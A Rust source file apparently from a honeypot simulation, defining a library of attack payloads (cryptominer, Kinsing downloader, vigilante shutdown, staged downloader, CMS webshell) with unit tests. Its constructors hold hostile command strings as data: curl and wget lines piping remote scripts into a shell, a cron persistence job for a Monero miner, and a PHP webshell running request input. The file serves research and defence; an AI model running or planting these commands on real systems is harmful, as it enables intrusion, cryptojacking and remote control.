//! The payload library.
//!
//! Payload *identity* (the normalized command string) is what the
//! honeypot's clustering groups by. The honeypot's resource monitor
//! reads the command too (`honeypot::resource::load_of`); the *kind*
//! only labels the family, and picks the image a Docker attack runs.

/// Behavioural class of a payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum PayloadKind {
    /// Monero-style cryptominer: pegs the CPU, installs a cronjob,
    /// terminates competing miners.
    Cryptominer,
    /// The Kinsing campaign: container/API-propagating miner.
    Kinsing,
    /// Stops the service ("shutdown") without further abuse.
    Vigilante,
    /// Generic downloader/backdoor staging.
    Downloader,
    /// CMS installation hijack followed by webshell deployment.
    InstallHijack,
}

/// A concrete payload.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Payload {
    /// Stable identity, e.g. `kinsing-v2`; clustering keys on this via
    /// the command string.
    pub name: String,
    /// The command the attack executes on the victim.
    pub command: String,
    pub kind: PayloadKind,
}

impl Payload {
    /// The Monero miner the paper describes: kills competitors and adds
    /// a cronjob for persistence.
    pub fn monero_miner(variant: u32) -> Payload {
        Payload {
            name: format!("monero-cron-v{variant}"),
            command: format!(
                "pkill -f kinsing; pkill -f kdevtmpfsi; \
                 (crontab -l; echo '* * * * * /tmp/.X{variant}/xmrig -o pool.minexmr.com:4444') | crontab -; \
                 curl -s http://185.191.32.{variant}/x{variant}.sh | sh"
            ),
            kind: PayloadKind::Cryptominer,
        }
    }

    /// A Kinsing-campaign stage-one downloader.
    pub fn kinsing(variant: u32) -> Payload {
        Payload {
            name: format!("kinsing-v{variant}"),
            command: format!("wget -q -O - http://195.3.146.{variant}/d.sh | sh; /tmp/kinsing"),
            kind: PayloadKind::Kinsing,
        }
    }

    /// The vigilante who shuts the service down.
    pub fn vigilante() -> Payload {
        Payload {
            name: "vigilante-shutdown".to_string(),
            command: "shutdown".to_string(),
            kind: PayloadKind::Vigilante,
        }
    }

    /// A generic staged downloader.
    pub fn downloader(variant: u32) -> Payload {
        Payload {
            name: format!("downloader-v{variant}"),
            command: format!("curl -fsSL http://evil-{variant}.example/x.sh | bash"),
            kind: PayloadKind::Downloader,
        }
    }

    /// CMS installation hijack + PHP webshell.
    pub fn install_hijack(variant: u32) -> Payload {
        Payload {
            name: format!("install-hijack-v{variant}"),
            command: format!("<?php /*shell-{variant}*/ system($_GET['c']); ?>"),
            kind: PayloadKind::InstallHijack,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variants_have_distinct_identities() {
        assert_ne!(Payload::kinsing(1), Payload::kinsing(2));
        assert_ne!(
            Payload::kinsing(1).command,
            Payload::monero_miner(1).command
        );
    }

    #[test]
    fn miner_kills_competitors_and_persists() {
        let p = Payload::monero_miner(3);
        assert!(p.command.contains("pkill -f kinsing"));
        assert!(p.command.contains("crontab"));
        assert_eq!(p.kind, PayloadKind::Cryptominer);
    }

    #[test]
    fn vigilante_is_harmless_to_resources() {
        let p = Payload::vigilante();
        assert_eq!(p.kind, PayloadKind::Vigilante);
        assert_eq!(p.command, "shutdown");
    }

    #[test]
    fn kinds_cover_the_observed_behaviours() {
        // Sanity: each constructor produces the kind it claims.
        assert_eq!(Payload::kinsing(1).kind, PayloadKind::Kinsing);
        assert_eq!(Payload::downloader(1).kind, PayloadKind::Downloader);
        assert_eq!(Payload::install_hijack(1).kind, PayloadKind::InstallHijack);
    }
}
